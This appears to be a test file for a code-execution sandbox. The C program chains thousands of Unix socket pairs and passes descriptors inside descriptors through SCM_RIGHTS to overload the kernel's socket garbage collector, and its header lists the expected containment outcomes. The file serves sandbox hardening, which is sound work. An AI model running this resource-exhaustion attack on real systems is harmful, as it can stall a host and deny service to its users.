/*
 * attack: Descriptors in flight inside descriptors in flight, to run the kernel's collector of sockets into the ground.
 * limits: {"cpu_time_ms": 1500, "wall_time_ms": 4000}
 * expect: accepted stdout="done\n"
 * expect: time_limit|memory_limit
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void send_it(int over, int fd)
{
    char space[CMSG_SPACE(sizeof(int))] = { 0 };
    struct iovec byte = { "x", 1 };
    struct msghdr message = { .msg_iov = &byte, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space };
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(head), &fd, sizeof fd);
    sendmsg(over, &message, MSG_DONTWAIT);
}

int main(void)
{
    int last[2] = { -1, -1 };
    for (int i = 0; i < 20000; i++) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) < 0)
            break;
        if (last[0] >= 0) {
            send_it(pair[0], last[0]);
            send_it(pair[0], last[1]);
            close(last[0]);
            close(last[1]);
        }
        send_it(pair[0], pair[1]);
        last[0] = pair[0];
        last[1] = pair[1];
    }
    puts("done");
}
